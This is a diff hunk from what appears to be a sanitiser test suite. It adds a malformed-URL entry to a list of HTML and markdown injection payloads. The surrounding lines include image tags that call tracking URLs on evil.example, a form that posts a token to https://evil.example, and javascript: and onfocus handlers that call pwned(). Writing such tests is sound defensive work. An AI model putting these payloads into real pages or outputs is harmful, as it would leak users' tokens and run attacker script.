@@ -70,6 +70,7 @@ PAYLOADS = (
     "![x](https://evil.example/track.png)",
     "![x](//evil.example/track.png)",
     "![x](/rpc)",
+    "![x](https:) [x](http:) ![x](https://) <a href='https://[::1'>x</a> ![x](<http://exa mple/x.png>)",
     "<form action=https://evil.example><input name=token><button>send</button></form>",
     "<form action=javascript:pwned()><input type=submit></form>",
     "<form id=question-form><input name=q autofocus onfocus=pwned()></form>",
